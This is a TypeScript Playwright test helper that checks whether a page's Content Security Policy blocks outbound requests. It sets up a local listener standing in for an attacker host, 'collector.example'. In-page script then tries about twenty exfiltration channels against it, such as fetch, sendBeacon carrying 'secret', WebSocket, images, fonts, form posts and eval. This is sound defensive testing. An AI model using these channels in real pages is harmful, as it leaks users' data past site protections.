import { createServer } from "node:net";
import type { Page } from "@playwright/test";

/** An attacker who waits for what a script in the page sends: every name below `collector.example` leads to them. */
export interface Collector {
  /** What the browser is started with to find them. */
  readonly browserArgument: string;
  /** The first bytes of each connection that carried any. The host's name stands in them, with TLS and without. */
  readonly received: readonly string[];
  close(): Promise<void>;
}

const DOMAIN = "collector.example";

/** Listens below TLS and HTTP, so that a request counts however it is sent. */
export async function startCollector(): Promise<Collector> {
  const received: string[] = [];
  const server = createServer((socket) => {
    socket.on("error", () => undefined);
    socket.once("data", (bytes) => {
      received.push(bytes.toString("latin1"));
      socket.destroy();
    });
  });
  await new Promise<void>((resolve) => server.listen(0, "127.0.0.1", resolve));
  const address = server.address();
  const port = typeof address === "object" && address !== null ? address.port : 0;
  return {
    browserArgument: `--host-resolver-rules=MAP *.${DOMAIN} 127.0.0.1:${port}`,
    received,
    close: () => new Promise((resolve) => server.close(() => resolve())),
  };
}

/** Where the way of a name ends. */
export function collectorHost(way: string): string {
  return `${way}.${DOMAIN}`;
}

/**
 * Runs as a script in the page: tries every way to another host that leaves the page where it is.
 * @returns the ways that the browser said it stopped
 */
export function reachOut(page: Page): Promise<readonly string[]> {
  return page.evaluate(async (domain) => {
    let complaints = 0;
    document.addEventListener("securitypolicyviolation", () => complaints++);
    const element = (name: string, attributes: Readonly<Record<string, string>>): HTMLElement => {
      const made = document.createElement(name);
      for (const [key, value] of Object.entries(attributes)) made.setAttribute(key, value);
      document.body.append(made);
      return made;
    };
    const at = (way: string, scheme = "https"): string => `${scheme}://${way}.${domain}/${way}`;
    const ways: Readonly<Record<string, () => unknown>> = {
      fetch: () => fetch(at("fetch"), { mode: "no-cors" }),
      plain: () => fetch(at("plain", "http"), { mode: "no-cors", keepalive: true }),
      beacon: () => navigator.sendBeacon(at("beacon"), "secret"),
      events: () => new EventSource(at("events")),
      socket: () => new WebSocket(at("socket", "wss")),
      transport: () => new WebTransport(at("transport")).ready,
      ping: () => element("a", { href: "#", ping: at("ping") }).click(),
      image: () => element("img", { src: at("image") }),
      background: () => (document.body.style.backgroundImage = `url(${at("background")})`),
      font: () => new FontFace("stolen", `url(${at("font")})`).load(),
      sound: () => element("audio", { src: at("sound"), preload: "auto" }),
      style: () => element("link", { rel: "stylesheet", href: at("style") }),
      prefetch: () => element("link", { rel: "prefetch", href: at("prefetch") }),
      script: () => element("script", { src: at("script") }),
      worker: () => new Worker("data:text/javascript,0"),
      object: () => element("object", { data: at("object") }),
      // Chromium opens a connection before it asks the policy about these two. Without TLS one sees that it stays empty.
      frame: () => element("iframe", { src: at("frame", "http") }),
      form: () => {
        const form = element("form", { action: at("form", "http"), method: "post", target: "nowhere" });
        element("iframe", { name: "nowhere" });
        if (form instanceof HTMLFormElement) form.submit();
      },
      markup: () => {
        document.body.innerHTML = `<img src=${at("markup")}>`;
      },
      code: () => {
        // eslint-disable-next-line no-eval -- the test is that it is refused
        eval("1");
      },
    };
    const stopped: string[] = [];
    for (const [name, way] of Object.entries(ways)) {
      const before = complaints;
      try {
        await way();
      } catch {
        stopped.push(name);
        continue;
      }
      // The browser says what it stopped in a task of its own.
      const isSaid = await new Promise<boolean>((resolve) => {
        const look = (rest: number): void => {
          if (complaints > before || rest === 0) resolve(complaints > before);
          else setTimeout(look, 20, rest - 1);
        };
        look(250);
      });
      if (isSaid) stopped.push(name);
    }
    return stopped;
  }, DOMAIN);
}

/** Every way that {@link reachOut} tries. */
export const WAYS: readonly string[] = [
  ...["fetch", "plain", "beacon", "events", "socket", "transport", "ping"],
  ...["image", "background", "font", "sound", "style", "prefetch", "script", "worker", "object"],
  ...["frame", "form", "markup", "code"],
];
